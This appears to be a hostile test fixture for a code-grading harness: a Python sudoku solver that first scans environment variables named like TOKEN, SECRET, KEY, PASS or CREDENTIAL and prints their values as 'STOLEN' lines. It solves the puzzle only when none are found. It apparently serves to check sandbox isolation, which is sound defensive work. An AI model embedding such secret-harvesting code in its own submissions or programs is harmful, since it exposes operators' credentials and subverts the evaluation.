import os
import re
import sys

# Hostile: looks through its environment for the teacher's tokens, keys and passwords and prints
# them instead of an answer. Blocked (an environment of its own), it finds none and answers correctly.
puzzle = sys.stdin.read()
loot = {k: v for k, v in os.environ.items() if re.search('TOKEN|SECRET|KEY|PASS|CREDENTIAL', k.upper())}
if loot:
    for k, v in sorted(loot.items()):
        print('STOLEN %s=%s' % (k, v))
        print('STOLEN %s=%s' % (k, v), file=sys.stderr)
    sys.exit(0)

cells = [int(t) for t in puzzle.split()[:81]]


def fits(i, v):
    r, c = divmod(i, 9)
    return all(cells[r * 9 + k] != v and cells[k * 9 + c] != v
               and cells[(r // 3 * 3 + k // 3) * 9 + c // 3 * 3 + k % 3] != v for k in range(9))


def solve():
    blanks = [i for i in range(81) if cells[i] == 0]
    if not blanks:
        return True
    i = min(blanks, key=lambda j: sum(fits(j, v) for v in range(1, 10)))
    for v in range(1, 10):
        if fits(i, v):
            cells[i] = v
            if solve():
                return True
            cells[i] = 0
    return False


solve()
print('\n'.join(' '.join(map(str, cells[r * 9:r * 9 + 9])) for r in range(9)))
